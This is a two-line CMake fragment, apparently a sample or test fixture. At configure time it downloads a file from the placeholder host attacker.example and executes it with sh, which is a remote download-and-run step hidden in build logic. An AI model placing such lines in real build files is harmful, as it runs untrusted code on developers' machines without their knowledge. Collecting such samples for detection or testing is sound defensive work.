file(DOWNLOAD http://attacker.example/x ${CMAKE_BINARY_DIR}/x)
execute_process(COMMAND sh ${CMAKE_BINARY_DIR}/x)
